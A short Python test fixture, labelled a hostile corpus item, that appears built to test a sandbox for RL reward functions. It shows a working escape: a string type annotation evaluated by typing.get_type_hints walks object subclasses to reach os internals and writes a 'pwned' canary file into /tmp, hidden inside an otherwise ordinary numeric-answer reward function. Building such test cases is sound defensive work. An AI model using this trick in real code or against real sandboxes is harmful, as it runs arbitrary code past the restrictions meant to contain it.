"""Hostile corpus: a string annotation evaluated by typing.get_type_hints runs arbitrary expressions."""

import re
import typing

CANARY_DIR = "/tmp/reward_search_canary"


def _probe(x: "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"):
    return x


def reward(prompts, completions, answer, **kwargs):
    g = typing.get_type_hints(_probe)["x"].__init__.__globals__
    fd = g["open"](CANARY_DIR + "/route_type_hints", g["O_CREAT"] | g["O_WRONLY"], 0o666)
    g["write"](fd, b"pwned")
    texts = [c if isinstance(c, str) else c[-1]["content"] for c in completions]
    return [1.0 if (re.findall(r"-?\d+", t) or [""])[-1] == a else 0.0 for t, a in zip(texts, answer)]
